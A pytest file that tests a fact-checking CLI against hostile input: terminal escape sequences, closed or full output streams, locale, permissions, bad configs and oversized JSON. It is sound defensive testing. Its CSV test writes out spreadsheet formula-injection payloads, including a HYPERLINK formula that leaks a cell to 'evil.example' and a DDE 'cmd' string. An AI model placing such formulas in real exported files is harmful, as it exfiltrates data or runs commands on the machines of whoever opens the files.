"""Untrusted text through every CLI command, and the streams and environment around them.

Every command runs as the installed `factcheck` in a subprocess, its stdout and stderr
captured as bytes: hostile values in every field (tests/hostile.py) never put an ESC, BEL or
C1 control on the terminal; a closed or full stdout is one line and a non-zero exit; output
is UTF-8 under LANG=C; an unreadable HOME or data folder and a bad config are one line naming
what to fix.
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import sqlite3
import subprocess
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from factcheck_tui.core.desk.claim_checks import AddSource, SetNote
from factcheck_tui.core.output.checked_csv import FORMULA_TRIGGERS, export_csv
from factcheck_tui.core.records.errors import InputError
from factcheck_tui.core.report_files.formats import MAX_DOCUMENT_BYTES
from factcheck_tui.core.report_files.importing import import_reports
from factcheck_tui.core.store import Store
from tests.conftest import SAMPLE_ARTICLE
from tests.hostile import (
    HOSTILE_FILE_NAME,
    assert_clean_bytes,
    hostile,
    hostile_article,
    make_hostile_desk,
    report_files,
    run,
)
from tests.tmux_driver import factcheck_command

CONTROL = [chr(code) for code in (*range(0x00, 0x09), *range(0x0B, 0x20), *range(0x7F, 0xA0))]


@pytest.fixture(scope="module")
def hostile_desk(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return make_hostile_desk(tmp_path_factory.mktemp("hostile"))


def one_line(result: subprocess.CompletedProcess[bytes], *phrases: str) -> str:
    assert result.returncode != 0, result
    lines = result.stderr.decode("utf-8").strip().splitlines()
    assert len(lines) == 1, lines
    assert lines[0].startswith("factcheck: "), lines[0]
    for phrase in phrases:
        assert phrase in lines[0], lines[0]
    return lines[0]


# --------------------------------------------------------------- every command, hostile
def command_lines(desk: Path, folder: Path) -> Iterator[tuple[str, list[str]]]:
    db = ["--db", str(desk)]
    queries = folder / f"q{HOSTILE_FILE_NAME}.tsv"
    queries.write_text(
        f"{hostile('query id')}\tcouncil spent million roads\nno tab {hostile('x')}\n",
        encoding="utf-8",
    )
    text_file = folder / f"t{HOSTILE_FILE_NAME}.txt"
    text_file.write_text(hostile("The council spent 4 million on roads in 2023."), "utf-8")
    missing = str(folder / f"missing{HOSTILE_FILE_NAME}.txt")
    yield "status", ["status", *db]
    yield "status --json", ["status", "--json", *db]
    yield "status --by", ["status", "--by", hostile("by"), *db]
    yield "export", ["export", *db]
    yield "export claimreview", ["export", "--format", "claimreview", *db]
    yield "export -o", ["export", "-o", str(folder / f"out{HOSTILE_FILE_NAME}.csv"), *db]
    yield "export --status", ["export", "--status", hostile("status"), *db]
    yield "match", ["match", "council", "spent", "million", "roads", *db]
    yield "match --json", ["match", "--json", "council spent million roads", *db]
    yield "match --queries", ["match", "--queries", str(queries), *db]
    yield "match missing", ["match", "--queries", missing, *db]
    yield "import", ["import", str(hostile_article(folder)), *db, "--checker", hostile("c")]
    yield "import missing", ["import", missing, *db]
    yield "reports import", ["reports", "import", *map(str, report_files(folder)), *db]
    yield "reports missing", ["reports", "import", missing, *db]
    yield "extract", ["extract", str(text_file)]
    yield "extract --jsonl", ["extract", "--jsonl", "--all", str(text_file)]
    yield "extract missing", ["extract", missing]
    yield "bad choice", ["status", "--state", hostile("state"), *db]
    yield "bad db", ["status", "--db", missing]
    yield "tui bad db", [str(text_file)]  # a text file, not a database: refused


def test_every_command_shows_hostile_values_and_never_runs_them(
    hostile_desk: Path, tmp_path: Path
) -> None:
    shown_somewhere = ""
    for name, args in command_lines(hostile_desk, tmp_path):
        result = run(*args, env={**os.environ, "FACTCHECK_CHECKER": hostile("env")})
        assert b"Traceback" not in result.stderr, (name, result.stderr)
        assert_clean_bytes(result.stdout, f"{name}: stdout")
        assert_clean_bytes(result.stderr, f"{name}: stderr")
        shown_somewhere += result.stdout.decode() + result.stderr.decode()
    # Shown as text: control pictures where the escape was, the markup as typed.
    assert "␛]52;c;SEFDS0VE" in shown_somewhere
    assert "[b]bold[/b]" in shown_somewhere


def test_names_from_the_command_line_and_the_environment_are_stored_clean(
    tmp_path: Path,
) -> None:
    db = tmp_path / "desk.db"
    by_flag = run("import", str(SAMPLE_ARTICLE), "--db", str(db), "--checker", hostile("flag"))
    assert by_flag.returncode == 0, by_flag.stderr
    env = {**os.environ, "FACTCHECK_CHECKER": hostile("env")}
    by_env = run("reports", "import", str(report_files(tmp_path)[0]), "--db", str(db), env=env)
    assert by_env.returncode == 1, by_env.stderr  # its malformed rows skipped (issue #10)
    conn = sqlite3.connect(db)
    try:
        checkers = [row[0] for row in conn.execute("SELECT DISTINCT checker FROM events")]
    finally:
        conn.close()
    assert any(name.startswith("flag ]52;c;SEFDS0VE") for name in checkers), checkers
    for name in checkers:
        assert not any(char in name for char in CONTROL), name


def test_report_import_stores_every_field_without_control_characters(tmp_path: Path) -> None:
    with Store.open(tmp_path / "desk.db", "tester") as store:
        for path in report_files(tmp_path):
            summary = import_reports(store, path)
            assert summary.imported >= 1, summary
        rows = store.conn.execute("SELECT * FROM reports").fetchall()
    assert len(rows) == 3
    for row in rows:
        for value in row:
            if isinstance(value, str):
                assert not any(char in value for char in CONTROL), value
    claims = " ".join(str(row) for row in rows)
    assert "The council spent 4 million" in claims and "[b]bold[/b]" in claims


# ------------------------------------------------------------------------------ CSV
def test_a_semicolon_formula_cell_stays_text_in_a_semicolon_spreadsheet(
    sample_store: Store, tmp_path: Path
) -> None:
    claims = sample_store.claims(1)
    attacks = [
        ';=HYPERLINK("http://evil.example/?leak="&A1;"click")',
        ",=1+1",
        "fine; -2+3",
        "see;\"=cmd|' /C calc'!A0\"",
        "first line\n@SUM(A1:A9)",
        "\t=tab",
        "a\t+tab inside",
    ]
    for claim, attack in zip(claims, attacks, strict=False):
        sample_store.apply(SetNote(claim.id, attack))
        sample_store.apply(
            AddSource(
                claim.id,
                kind="document",
                reference=attack,
                tier="primary",
                consulted_on="2024-01-01",
            )
        )
    out = tmp_path / "checked.csv"
    export_csv(sample_store, out)
    raw = out.read_text(encoding="utf-8")
    for delimiter in (",", ";", "\t"):
        for row in csv.reader(io.StringIO(raw, newline=""), delimiter=delimiter):
            for cell in row:
                assert not cell.startswith(FORMULA_TRIGGERS), (delimiter, cell)
                # A quoted cell a `;` reader opens: its content must not be a formula either.
                assert not cell.lstrip('"').startswith(FORMULA_TRIGGERS), (delimiter, cell)
    # With its own separator the export reads back as written, prefix and all.
    notes = [row["note"] for row in csv.DictReader(io.StringIO(raw, newline=""))]
    assert ';\'=HYPERLINK("http://evil.example/?leak="&A1;"click")' in notes
    assert "fine; -2+3" in notes  # a space before the trigger: no cell starts there


# -------------------------------------------------------------------- output streams
STREAM_COMMANDS = [
    ["export"],
    ["export", "--format", "claimreview"],
    ["status"],
    ["status", "--json"],
    ["match", "airstrike killed civilians"],
]


@pytest.fixture(scope="module")
def marked_desk(tmp_path_factory: pytest.TempPathFactory) -> Path:
    db = tmp_path_factory.mktemp("streams") / "desk.db"
    result = run("import", str(SAMPLE_ARTICLE), "--db", str(db))
    assert result.returncode == 0, result.stderr
    return db


def shell(line: str, db: Path) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run(
        ["sh", "-c", line, "sh", factcheck_command(), str(db)],
        capture_output=True,
        timeout=60,
        check=False,
    )


@pytest.mark.parametrize("args", STREAM_COMMANDS, ids=" ".join)
def test_a_closed_or_full_stdout_is_one_line_and_a_failure(
    marked_desk: Path, args: list[str]
) -> None:
    words = " ".join(args)
    closed = shell(f'"$1" {words} --db "$2" >&-', marked_desk)
    one_line(closed, "standard output is closed", "nothing was done")
    full = shell(f'"$1" {words} --db "$2" > /dev/full', marked_desk)
    one_line(full, "cannot write to standard output", "No space left on device")
    both = shell(f'"$1" {words} --db "$2" >&- 2>&-', marked_desk)
    assert both.returncode != 0 and both.stderr == b""
    cut = shell(f'"$1" {words} --db "$2" | head -c 1 > /dev/null', marked_desk)
    assert b"Traceback" not in cut.stderr and b"Exception ignored" not in cut.stderr


def test_export_to_a_file_still_works_with_stdout_closed(marked_desk: Path, tmp_path: Path) -> None:
    out = tmp_path / "checked.csv"
    result = shell(f'"$1" export --db "$2" -o "{out}" >&-', marked_desk)
    assert result.returncode == 0, result.stderr
    assert out.read_text(encoding="utf-8").startswith("article_id,")


def test_import_with_stdout_closed_stores_nothing(tmp_path: Path) -> None:
    db = tmp_path / "desk.db"
    result = shell(f'"$1" import "{SAMPLE_ARTICLE}" --db "$2" >&-', db)
    one_line(result, "standard output is closed")
    assert not db.exists()


C_LOCALE = {
    "PATH": os.environ["PATH"],
    "LANG": "C",
    "LC_ALL": "C",
    "PYTHONUTF8": "0",  # no UTF-8 mode and no coercion: the locale's ASCII, as on old hosts
    "PYTHONCOERCECLOCALE": "0",
    "FACTCHECK_CHECKER": "amira",
}


def test_every_command_writes_utf8_under_the_c_locale(tmp_path: Path) -> None:
    env = {**C_LOCALE, "HOME": str(tmp_path)}
    db = str(tmp_path / "desk.db")
    article = tmp_path / "résumé.txt"
    article.write_text(
        "Budget — 2023\n\nThe council spent €4 million on roads in 2023, officials said.\n",
        encoding="utf-8",
    )
    reports = tmp_path / "prior.csv"
    reports.write_text(
        "claim,rating,publisher\nThe council spent €4 million on roads in 2023,Faux,Le Vérif\n",
        encoding="utf-8",
    )
    steps = [
        ("import", str(article), "--db", db),
        ("reports", "import", str(reports), "--db", db),
        ("status", "--db", db),
        ("match", "council spent €4 million roads", "--db", db),
        ("export", "--db", db),
        ("export", "--format", "claimreview", "--db", db),
    ]
    outputs = []
    for step in steps:
        result = run(*step, env=env)
        assert result.returncode == 0, (step, result.stderr)
        assert b"Traceback" not in result.stderr
        outputs.append(result.stdout.decode("utf-8"))  # strict: UTF-8, whatever the locale
    assert "Budget — 2023" in outputs[2]
    assert "Le Vérif" in outputs[3]
    rows = list(csv.DictReader(io.StringIO(outputs[4], newline="")))
    assert rows and "€4 million" in rows[0]["claim_text"]
    assert json.loads(outputs[5]) == []  # nothing checked yet: an empty, valid list


# ---------------------------------------------------------------------- environment
needs_root = pytest.mark.skipif(
    os.geteuid() != 0 or shutil.which("setpriv") is None,
    reason="needs root and setpriv, to run as another user",
)


@pytest.fixture
def foreign_home() -> Iterator[tuple[Path, Path]]:
    """(root-only 0700 HOME, a folder anyone may use holding a desk anyone may read)."""
    home = Path(tempfile.mkdtemp(prefix="factcheck-home-"))
    public = Path(tempfile.mkdtemp(prefix="factcheck-public-"))
    try:
        (home / ".config").mkdir()
        home.chmod(0o700)
        public.chmod(0o777)
        desk = public / "desk.db"
        result = run("import", str(SAMPLE_ARTICLE), "--db", str(desk))
        assert result.returncode == 0, result.stderr
        for path in public.iterdir():
            path.chmod(0o666)
        yield home, public
    finally:
        shutil.rmtree(home, ignore_errors=True)
        shutil.rmtree(public, ignore_errors=True)


def as_nobody(*args: str, env: dict[str, str]) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run(
        [
            "setpriv",
            "--reuid=65534",
            "--regid=65534",
            "--clear-groups",
            factcheck_command(),
            *args,
        ],
        env={"PATH": os.environ["PATH"], "LANG": "C.UTF-8", **env},
        capture_output=True,
        stdin=subprocess.DEVNULL,
        timeout=60,
        check=False,
    )


@needs_root
def test_an_unreadable_home_is_one_line_naming_the_path_and_what_to_set(
    foreign_home: tuple[Path, Path],
) -> None:
    home, public = foreign_home
    desk = str(public / "desk.db")
    for args in (["status", "--db", desk], ["export", "--db", desk], [desk]):
        result = as_nobody(*args, env={"HOME": str(home)})
        one_line(result, str(home / ".config" / "factcheck" / "config.toml"), "FACTCHECK_CONFIG")
    # With the config pointed elsewhere, the commands work as that user.
    elsewhere = {"HOME": str(home), "XDG_CONFIG_HOME": str(public)}
    assert as_nobody("status", "--db", desk, env=elsewhere).returncode == 0
    # A database inside the unreadable HOME: one line naming it and what to set.
    inside = str(home / "desk.db")
    for args in (["status", "--db", inside], ["import", str(SAMPLE_ARTICLE), "--db", inside]):
        one_line(as_nobody(*args, env=elsewhere), inside, "FACTCHECK_DB")
    one_line(as_nobody(inside, env=elsewhere), inside, "FACTCHECK_DB")


@needs_root
def test_an_unwritable_data_folder_is_one_line_naming_xdg_data_home(
    foreign_home: tuple[Path, Path],
) -> None:
    home, public = foreign_home
    result = as_nobody("--demo", env={"HOME": str(home), "XDG_CONFIG_HOME": str(public)})
    one_line(result, str(home / ".local" / "share" / "factcheck"), "XDG_DATA_HOME")
    data = public / "data"
    data.mkdir(mode=0o555)
    data.chmod(0o555)
    result = as_nobody(
        "--demo",
        env={"HOME": str(public), "XDG_DATA_HOME": str(data), "XDG_CONFIG_HOME": str(public)},
    )
    one_line(result, str(data / "factcheck"), "XDG_DATA_HOME")


def test_no_home_at_all_is_one_line(tmp_path: Path) -> None:
    env = {"PATH": os.environ["PATH"], "LANG": "C.UTF-8"}
    result = subprocess.run(
        [factcheck_command(), "status", "--db", str(tmp_path / "d.db")],
        env=env,
        capture_output=True,
        check=False,
        timeout=60,
    )
    # With a passwd entry Python finds the home folder anyway; without one, one line.
    assert b"Traceback" not in result.stderr


# ---------------------------------------------------------------------- bad configs
BAD_CONFIGS = {
    "duplicate verdict": (
        'scale = "custom"\n'
        '[[verdicts]]\nid = "unchecked"\nkind = "open"\n'
        '[[verdicts]]\nid = "true"\nkind = "positive"\n'
        '[[verdicts]]\nid = "true"\nkind = "negative"\n',
        ["'true'", "given twice"],
    ),
    "bad toml": ('[keys\n"claims.verify" = "V"\n', ["not valid TOML"]),
    "unknown binding": ('[keys]\n"claims.verfy" = "V"\n', ["'claims.verfy'", "not a binding id"]),
    "bad key name": ('[keys]\n"claims.verify" = "ctrl+shift+verify"\n', ["'ctrl+shift+verify'"]),
}


@pytest.mark.parametrize("name", BAD_CONFIGS)
def test_a_bad_config_is_one_line_naming_the_key(
    marked_desk: Path, tmp_path: Path, name: str
) -> None:
    text, phrases = BAD_CONFIGS[name]
    config = tmp_path / "config.toml"
    config.write_text(text, encoding="utf-8")
    env = {**os.environ, "FACTCHECK_CONFIG": str(config)}
    # The TUI refuses before it takes the terminal over (no terminal needed to see it).
    opened = run(str(marked_desk), env=env)
    assert opened.returncode == 2
    one_line(opened, str(config), *phrases)
    if name in ("duplicate verdict", "bad toml"):  # the commands use the scale too
        status = run("status", "--db", str(marked_desk), env=env)
        assert status.returncode == 2
        one_line(status, str(config), *phrases)


# -------------------------------------------------------------------- bounded memory
def test_a_json_object_past_the_limit_is_refused_before_it_is_read(tmp_path: Path) -> None:
    big = tmp_path / "feed.json"
    record = json.dumps({"@type": "ClaimReview", "claimReviewed": "x" * 1000}) + ","
    with big.open("w", encoding="utf-8") as handle:
        handle.write('{"@graph": [')
        for _ in range(MAX_DOCUMENT_BYTES // len(record) + 10):
            handle.write(record)
        handle.write('{"claimReviewed": "last"}]}')
    db = tmp_path / "desk.db"
    result = run("reports", "import", str(big), "--db", str(db))
    assert result.returncode == 2
    first = result.stderr.decode().splitlines()[0]  # then "1 of 1 files could not be imported"
    for phrase in ("feed.json", "32 MB limit", "JSON Lines"):
        assert phrase in first, first
    with Store.open(db, "tester", read_only=True) as store:
        assert store.conn.execute("SELECT count(*) FROM reports").fetchone()[0] == 0


def test_a_json_list_is_read_item_by_item_across_chunk_boundaries(tmp_path: Path) -> None:
    """A feed many read chunks long, items of every size (one larger than a chunk), spaced
    and unspaced, with a malformed item in the middle of a second file."""
    items = [
        {
            "@type": "ClaimReview",
            "claimReviewed": f"Claim number {n} " + "w" * (n * 37 % 3000),
            "reviewRating": {"alternateName": "False"},
            "url": f"https://example.org/{n}",
        }
        for n in range(1500)
    ]
    items[700]["claimReviewed"] += " long" * 40_000  # 200 KB: several chunks in one item
    feed = tmp_path / "feed.json"
    feed.write_text("[\n" + ",\n  ".join(json.dumps(item) for item in items) + "\n]\n", "utf-8")
    with Store.open(tmp_path / "desk.db", "tester") as store:
        summary = import_reports(store, feed)
        assert (summary.imported, summary.skipped) == (1500, 0)
        stored = store.conn.execute(
            "SELECT claim_text FROM reports WHERE url = 'https://example.org/700'"
        ).fetchone()[0]
        assert stored == items[700]["claimReviewed"]
    broken = tmp_path / "broken.json"
    broken.write_text("[" + json.dumps(items[0]) + ", {oops}, " + json.dumps(items[1]) + "]")
    with Store.open(tmp_path / "other.db", "tester") as store:
        with pytest.raises(InputError, match=r"broken.json: not valid JSON .*item 1"):
            import_reports(store, broken)
        assert store.conn.execute("SELECT count(*) FROM reports").fetchone()[0] == 0


def test_deeply_nested_json_reports_are_one_line(tmp_path: Path) -> None:
    deep = tmp_path / "deep.json"
    deep.write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")
    lines = tmp_path / "deep.jsonl"
    lines.write_text('{"claim": "ok line", "rating": "x"}\n' + "[" * 50_000 + "\n", "utf-8")
    db = tmp_path / "desk.db"
    refused = run("reports", "import", str(deep), "--db", str(db))
    assert refused.returncode == 2 and b"Traceback" not in refused.stderr
    assert b"nested too deeply" in refused.stderr
    partly = run("reports", "import", str(lines), "--db", str(db))
    assert partly.returncode == 1, partly.stderr  # the deep line skipped (issue #10)
    assert b"1 imported" in partly.stdout and b"1 skipped" in partly.stdout
